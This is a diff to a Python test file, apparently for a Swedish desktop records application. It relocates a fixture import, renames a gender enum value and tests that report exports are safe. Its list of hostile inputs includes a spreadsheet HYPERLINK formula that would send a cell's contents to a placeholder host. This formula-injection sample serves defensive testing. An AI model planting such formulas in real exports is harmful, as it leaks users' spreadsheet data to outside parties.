@@ -21,7 +21,6 @@ from pathlib import Path
 
 import pytest
 from openpyxl import load_workbook
-from test_lots_support import case, county, register
 
 import finsam_desktop
 import finsam_desktop.reports
@@ -29,6 +28,7 @@ from finsam_desktop.domain import periods
 from finsam_desktop.domain.lots import CategoryKind, LotsCategory
 from finsam_desktop.reports import audit_export, cells, export
 from finsam_desktop.reports.model import Column, Kind, Report, Table
+from tests.lots_fixtures import case, county, register
 
 HOSTILE = [
     '=HYPERLINK("http://exempel.invalid/?x="&A1,"Klicka")',
@@ -276,7 +276,7 @@ def test_access_log_screen_exports_are_safe(db, tmp_path, qapp, qtbot):
             last_name=text,
             address=PostalAddress("Påhittsgatan 1", "711 30", "Exempelbygden"),
             municipality_id=None,
-            gender=Gender.KVINNA,
+            gender=Gender.WOMAN,
             protected_identity=False,
             phone="",
             email="",
